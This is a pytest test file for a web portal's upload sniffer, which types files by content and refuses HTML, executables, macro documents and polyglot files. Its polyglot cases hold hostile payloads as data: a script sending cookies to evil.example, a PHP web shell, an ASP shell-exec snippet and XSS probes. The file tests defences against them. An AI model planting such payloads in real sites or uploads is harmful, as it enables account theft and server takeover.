"""Files are recognised by their content: real minimal files, built here."""

from __future__ import annotations

import io
import os

import pytest

from portal.errors import UploadRejected
from portal.services.files.uploads import receive_upload
from portal.storage.sniff import NOT_ACCEPTED, POLYGLOT, SCAN_BYTES, FileType, sniff
from tests.storage.sample_files import (
    DOCX,
    ODT,
    make_docx,
    make_ftyp,
    make_jpeg,
    make_odf,
    make_pdf,
    make_png,
    make_png_with_text,
    make_zip,
)


def sniffed(data: bytes) -> FileType:
    return sniff(io.BytesIO(data))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (make_pdf(), ("application/pdf", ".pdf")),
        (make_pdf(trailing=b"\r\n" + b"\x00" * 2000), ("application/pdf", ".pdf")),
        (make_jpeg(), ("image/jpeg", ".jpg")),
        (make_png(), ("image/png", ".png")),
        (make_ftyp(b"heic", b"mif1", b"heic"), ("image/heic", ".heic")),
        (make_ftyp(b"mif1", b"mif1", b"heic"), ("image/heic", ".heic")),
        (make_ftyp(b"mif1", b"mif1"), ("image/heif", ".heif")),
        (make_ftyp(b"msf1", b"msf1"), ("image/heif", ".heif")),
        (make_docx(), (DOCX, ".docx")),
        (make_odf(), (ODT, ".odt")),
    ],
    ids=["pdf", "pdf-padded", "jpeg", "png", "heic", "heif-with-heic", "heif", "heif-sequence", "docx", "odt"],
)
def test_accepted_types(data: bytes, expected: tuple[str, str]) -> None:
    assert sniffed(data) == expected


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty"),
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", NOT_ACCEPTED),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            NOT_ACCEPTED,
        ),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100 + b"PE\x00\x00", NOT_ACCEPTED),
        (b"<html><script>alert(1)</script></html>\n" + make_pdf(), NOT_ACCEPTED),
        (b"Hello, this is plain text.\n", NOT_ACCEPTED),
        (make_zip([("notes.txt", b"hello"), ("photo.jpg", make_jpeg())]), "ZIP files are not accepted"),
        (make_zip([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")]), NOT_ACCEPTED),
        (make_odf(b"application/vnd.oasis.opendocument.spreadsheet"), NOT_ACCEPTED),
        (make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "Word documents with macros are not accepted"),
        (b"PK\x03\x04" + os.urandom(200), NOT_ACCEPTED),
        (make_ftyp(b"isom", b"isom", b"mp41"), NOT_ACCEPTED),
        (make_ftyp(b"avif", b"mif1", b"avif"), NOT_ACCEPTED),
        (make_pdf()[:-200], "The PDF seems to be incomplete"),
    ],
    ids=[
        "empty",
        "html",
        "svg-with-script",
        "exe",
        "html-then-pdf",
        "text",
        "plain-zip",
        "xlsx",
        "ods",
        "docm",
        "broken-zip",
        "mp4-video",
        "avif",
        "truncated-pdf",
    ],
)
def test_refused_types(data: bytes, message: str) -> None:
    with pytest.raises(UploadRejected) as refused:
        sniffed(data)

    assert refused.value.message.startswith(str(message))


def test_the_name_does_not_matter_html_renamed_pdf_is_refused() -> None:
    html = io.BytesIO(b"<!DOCTYPE html><html><script>document.cookie</script></html>")

    with pytest.raises(UploadRejected, match="This type of file is not accepted"):
        receive_upload(html, "bank-statement.pdf", max_bytes=1024 * 1024)


def test_the_name_does_not_matter_a_pdf_named_jpg_is_a_pdf() -> None:
    with receive_upload(io.BytesIO(make_pdf()), "photo.jpg", max_bytes=1024 * 1024) as received:
        assert (received.content_type, received.extension) == ("application/pdf", ".pdf")
        assert received.filename == "photo.jpg"


def test_a_docx_bigger_than_the_memory_spool_is_read_from_disk() -> None:
    # 3 MiB of incompressible image inside: the upload rolls over to a real
    # temporary file and zipfile reads its directory from there.
    docx = make_docx(("word/media/image1.jpeg", make_jpeg() + os.urandom(3 * 1024 * 1024)))

    with receive_upload(io.BytesIO(docx), "constitution.docx", max_bytes=20 * 1024 * 1024) as received:
        assert received.content_type == DOCX
        assert received.file._rolled  # type: ignore[attr-defined]


def test_sniff_leaves_the_stream_at_its_start() -> None:
    stream = io.BytesIO(make_docx())

    sniff(stream)

    assert stream.tell() == 0


def pdf_with(markup: bytes) -> bytes:
    """A PDF whose first line is followed by ``markup`` (in a comment, where PDF readers ignore it)."""
    pdf = make_pdf()
    header_end = pdf.index(b"\n") + 1
    return pdf[:header_end] + b"%" + markup + b"\n" + pdf[header_end:]


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
        pdf_with(b"<HTML><BODY onload=alert(1)>"),
        make_jpeg(comment=b"<script>fetch('//evil.example/'+document.cookie)</script>"),
        make_jpeg(comment=b"<?php system($_GET['c']); ?>"),
        make_jpeg(comment=b'<% Response.Write(CreateObject("WScript.Shell").Exec("cmd")) %>'),
        make_png_with_text(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        make_png_with_text(b"<iframe src=//evil.example>"),
        make_docx(("<script>alert(1)</script>.xml", b"")),
        # Deep in the scanned part, not just in the first 512 bytes.
        make_jpeg(comment=bytes(40_000) + b"<html><script>alert(1)</script>"),
    ],
    ids=[
        "pdf-html",
        "pdf-upper-case",
        "jpeg-script",
        "jpeg-php",
        "jpeg-asp",
        "png-svg",
        "png-iframe",
        "docx-name",
        "deep",
    ],
)
def test_a_polyglot_of_an_accepted_type_and_markup_is_refused(data: bytes) -> None:
    with pytest.raises(UploadRejected) as refused:
        sniffed(data)

    assert refused.value.message == POLYGLOT


@pytest.mark.parametrize(
    "data",
    [
        # What real files carry: PDF dictionaries, XMP metadata, angle brackets in text.
        pdf_with(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><dc:title>Costs < income</dc:title></rdf:RDF>'),
        make_jpeg(comment=b"<%\x00\x01\xff binary that happens to start like a tag <htm <svg2 <bodyguard"),
        make_png_with_text(b"Scanned <2026> with a phone; 5<%7"),
        # Markup past the scanned part is not where a browser looks for it.
        make_jpeg(comment=bytes(SCAN_BYTES) + b"<html>"),
    ],
    ids=["pdf-xmp", "jpeg-near-misses", "png-text", "beyond-the-scan"],
)
def test_ordinary_angle_brackets_are_not_markup(data: bytes) -> None:
    assert sniffed(data).mime_type in {"application/pdf", "image/jpeg", "image/png"}
